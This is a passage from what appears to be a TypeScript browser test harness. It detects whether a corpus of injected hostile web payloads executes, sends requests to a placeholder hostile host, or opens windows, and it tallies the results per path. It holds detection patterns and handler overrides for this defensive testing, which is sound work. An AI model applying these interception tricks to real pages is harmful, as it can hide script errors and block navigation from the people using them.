  window.open = (target?: string | URL) => (opened.push(String(target ?? '')), null);
  // A payload's script that failed to parse or threw still ran (a data: script, a handler, React's
  // stand-in for a javascript: href): it counts, and is kept from mocha's window.onerror, which would
  // end the test before the path's summary. Errors of the page's own http(s) modules still fail tests.
  const mochaOnError = window.onerror;
  window.onerror = function (message, source, line, column, error) {
    const fromPage = /^https?:/.test(source ?? '') && !/__wsHostileRan|hostile\.invalid/.test(String(message));
    if (!fromPage) {
      executions.push(`error:${`${source ?? ''} ${String(message)}`.trim().slice(0, 100)}`);
      return true;
    }
    return mochaOnError ? mochaOnError.call(window, message, source, line, column, error) : false;
  };
  const navigation = (window as unknown as { navigation?: EventTarget }).navigation;
  if (!navigation)
    throw new Error('the hostile corpus needs the Navigation API (Chromium) to keep the test page in place');
  navigation.addEventListener('navigate', (event) => {
    const navigate = event as NavigateEventLike;
    if (navigate.hashChange) return;
    navigate.preventDefault();
    navigations.push(navigate.destination.url);
  });
  await executeServerCommand('hostile-requests', { action: 'start' });
  watching = {
    navigations,
    async take(settleMs = 150) {
      await new Promise((resolve) => setTimeout(resolve, settleMs));
      const requests = await executeServerCommand<string[], { action: string }>('hostile-requests', { action: 'take' });
      const hostileNavigations = navigations.splice(0).filter(isHostileUrl);
      return {
        executions: executions.splice(0),
        requests: [...requests, ...hostileNavigations],
        opened: opened.splice(0),
      };
    },
  };
  return watching;
}

/**
 * Does what a visitor would do with inserted content: clicks every link and area (SVG ones too)
 * and every form button, and submits forms. `target` goes first: a new window would leave the guard.
 */
export function activateEverything(root: ParentNode): void {
  const roots: ParentNode[] = [root];
  for (const host of root.querySelectorAll('*')) if (host.shadowRoot) roots.push(host.shadowRoot);
  for (const scope of roots) {
    for (const link of scope.querySelectorAll('a, area')) {
      link.removeAttribute('target');
      link.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true, composed: true, button: 0 }));
    }
    for (const button of scope.querySelectorAll<HTMLElement>(
      'form button, form input[type=submit], form input[type=image]',
    ))
      button.click();
    for (const form of scope.querySelectorAll('form')) {
      try {
        form.requestSubmit();
      } catch {
        // A form the browser refuses to submit cannot navigate either.
      }
    }
  }
}

/** Payload ids (or kinds) named by what the detectors saw: the path's summary lists them. */
const idsOf = (findings: HostileFindings): string[] => [
  ...findings.executions,
  // The kind and id are in the path; the host (and a run's subdomain) only repeat "hostile".
  ...findings.requests.map((request) =>
    new URL(request, location.href).pathname.replace(/^\/__hostile\/[^/]+\//, '/__hostile/'),
  ),
  ...findings.opened.map((target) => `open:${target.slice(0, 80)}`),
];

/** Runs whose held content consent has released (releasedInRun). */
const releasedRuns = new Set<string>();

/**
 * Says that consent released the held content of `run`: it may load later than its path's last
 * look (a video's source under a slow run), and such a request then belongs to no later path.
 */
export function releasedInRun(run: string): void {
  releasedRuns.add(run);
}

/** A request for held content of a run whose content consent released: allowed, whenever it comes. */
const releasedHeldRequest = (request: string): boolean => {
  const { hostname, pathname } = new URL(request, location.href);
  return (
    pathname.startsWith(`/${HELD_KIND}/`) && [...releasedRuns].some((run) => hostname === `${run}.${HOSTILE_HOST}`)
  );
};

/** The count of one path: placements fed, and what ran or requested because of them. */
export class HostileTally {
  placements = 0;
  readonly executions = new Set<string>();
  readonly requests = new Set<string>();
  readonly breaks: string[] = [];

  constructor(readonly path: string) {}

  add(findings: HostileFindings, { ignoreHeld = false } = {}): void {
    for (const id of findings.executions) this.executions.add(id);
    // After consent, content of that category may load: requests to the held kind are then expected.
    const counted = (
      ignoreHeld
        ? findings.requests.filter((request) => !new URL(request, location.href).pathname.startsWith(`/${HELD_KIND}/`))
        : findings.requests
    ).filter((request) => !releasedHeldRequest(request));
    for (const id of idsOf({ executions: [], requests: counted, opened: [] })) this.requests.add(id);
    // Opening this site in a new window is what hash links to other pages do; other schemes or hosts are not.
    const hostileOpens = findings.opened.filter(
      (target) => !/^https?:$/.test(new URL(target, location.href).protocol) || isHostileUrl(target),
    );
    for (const id of idsOf({ executions: [], requests: [], opened: hostileOpens })) this.executions.add(id);
  }

  /** Something the runtime must survive but did not (it stopped, or consent was switched off). */
  broke(placement: string, what: string): void {
    this.breaks.push(`${placement}: ${what}`);
  }

  get failures(): number {
    return this.executions.size + this.requests.size + this.breaks.length;
  }

  /** One line per path for the test log, with the payloads that got through. */
  summary(): string {
    const named = (label: string, values: Iterable<string>) => {
      const all = [...values];
      return all.length ? `\n  ${label}: ${all.join(', ')}` : '';
    };
    return (
      `hostile corpus | ${this.path}: ${this.placements} placements, ${this.executions.size} executions, ${this.requests.size} hostile requests, ${this.breaks.length} breaks` +
      named('executions', this.executions) +
      named('hostile requests', this.requests) +
      named('breaks', this.breaks)
    );
  }

  print(): void {
    console.log(this.summary());
  }
}
